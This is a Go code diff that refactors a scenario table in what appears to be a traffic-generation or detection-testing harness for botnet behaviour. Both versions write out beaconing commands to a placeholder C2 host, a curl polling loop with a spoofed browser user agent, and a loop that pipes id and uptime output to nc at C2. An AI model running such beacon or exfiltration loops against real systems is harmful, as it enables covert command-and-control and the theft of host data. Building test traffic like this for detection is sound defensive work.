@@ -11,24 +11,21 @@ import (
 
 // bots: a person's machine that calls its controller outside.
 func bots() []Scenario {
-	row := func(name string, limit time.Duration, line string) Scenario {
-		return Scenario{Name: name, Class: attack.Bot, Limit: limit, Play: func(ctx context.Context, r *Run) error {
-			return call(ctx, r, line)
-		}}
-	}
+	some := family{class: attack.Bot, limit: 120 * time.Second, play: call}
+	long := some.within(600 * time.Second)
 	return []Scenario{
-		row("beacon-http", 100*time.Second, "SELF beacon -url http://C2/beat -every SHORT -for 95s -jitter 0"),
-		row("beacon-http-jitter", 120*time.Second, "SELF beacon -url http://C2/beat -every SHORT -for 115s -jitter JITTER"),
-		row("beacon-https", 120*time.Second, "SELF beacon -url https://C2/beat -every SHORT -for 115s -jitter JITTER"),
-		row("beacon-https-keep", 120*time.Second, "SELF beacon -url https://C2/beat -every SHORT -for 115s -jitter JITTER -keep"),
-		row("beacon-dns", 120*time.Second, "SELF beacon -url dns:cdn-sync.example -every SHORT -for 115s -jitter JITTER"),
-		row("beacon-tcp", 120*time.Second, "SELF beacon -url tcp:C2:CHATPORT -every SHORT -for 115s -jitter JITTER"),
-		row("beacon-dead", 120*time.Second, "SELF beacon -url tcp:C2:4444 -every SHORT -for 115s -jitter JITTER"),
-		row("beacon-long", 600*time.Second, "SELF beacon -url http://C2/beat -every LONG -for 590s -jitter 0"),
-		row("beacon-long-jitter", 600*time.Second, "SELF beacon -url https://C2/beat -every LONG -for 590s -jitter JITTER"),
-		row("curl-loop", 120*time.Second, "while :; do curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0)' http://C2/beat?id=7f3a; sleep SHORTNUM; done"),
-		also(attack.Infiltration, row("shell-loop", 120*time.Second, "while :; do (id; uptime) | nc -w 2 C2 CHATPORT; sleep SHORTNUM; done")),
-		row("irc-bot", 150*time.Second, "SELF chat -dial C2:CHATPORT -every 9s -for 145s"),
+		some.within(100*time.Second).row("beacon-http", "SELF beacon -url http://C2/beat -every SHORT -for 95s -jitter 0"),
+		some.row("beacon-http-jitter", "SELF beacon -url http://C2/beat -every SHORT -for 115s -jitter JITTER"),
+		some.row("beacon-https", "SELF beacon -url https://C2/beat -every SHORT -for 115s -jitter JITTER"),
+		some.row("beacon-https-keep", "SELF beacon -url https://C2/beat -every SHORT -for 115s -jitter JITTER -keep"),
+		some.row("beacon-dns", "SELF beacon -url dns:cdn-sync.example -every SHORT -for 115s -jitter JITTER"),
+		some.row("beacon-tcp", "SELF beacon -url tcp:C2:CHATPORT -every SHORT -for 115s -jitter JITTER"),
+		some.row("beacon-dead", "SELF beacon -url tcp:C2:4444 -every SHORT -for 115s -jitter JITTER"),
+		long.row("beacon-long", "SELF beacon -url http://C2/beat -every LONG -for 590s -jitter 0"),
+		long.row("beacon-long-jitter", "SELF beacon -url https://C2/beat -every LONG -for 590s -jitter JITTER"),
+		some.row("curl-loop", "while :; do curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0)' http://C2/beat?id=7f3a; sleep SHORTNUM; done"),
+		some.row("shell-loop", "while :; do (id; uptime) | nc -w 2 C2 CHATPORT; sleep SHORTNUM; done", attack.Infiltration),
+		some.within(150*time.Second).row("irc-bot", "SELF chat -dial C2:CHATPORT -every 9s -for 145s"),
 	}
 }
 
